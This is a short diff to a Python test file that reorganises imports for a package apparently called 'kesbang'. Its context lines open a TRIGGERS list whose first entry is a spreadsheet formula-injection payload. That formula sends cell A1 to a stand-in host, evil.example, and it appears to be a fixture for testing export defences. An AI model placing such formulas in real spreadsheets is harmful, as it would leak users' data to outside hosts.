@@ -16,7 +16,11 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from kesbang import dataset, export, loader, measurability, report, settings, template
+from kesbang import dataset, settings
+from kesbang.analysis import measurability
+from kesbang.exports import tables as export
+from kesbang.exports import template
+from kesbang.intake import loader, report
 
 TRIGGERS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
